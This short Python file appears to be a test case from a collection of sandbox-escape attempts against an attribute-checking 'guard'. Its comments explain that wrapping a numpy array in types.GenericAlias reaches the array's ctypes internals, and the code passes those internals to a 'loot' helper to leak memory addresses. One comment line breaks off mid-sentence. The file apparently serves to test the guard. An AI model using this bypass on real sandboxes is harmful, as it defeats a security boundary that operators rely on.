# aim: take addresses out of an array
# mechanism: types.GenericAlias(array, ()).ctypes is the array's
# language: guard
# reason: the object that an attribute access returned is checked, not its owner
# jail: process
# plain: loot
# imports: numpy

import types

import numpy

loot(types.GenericAlias(numpy.zeros(3), ()).ctypes._ctypes)
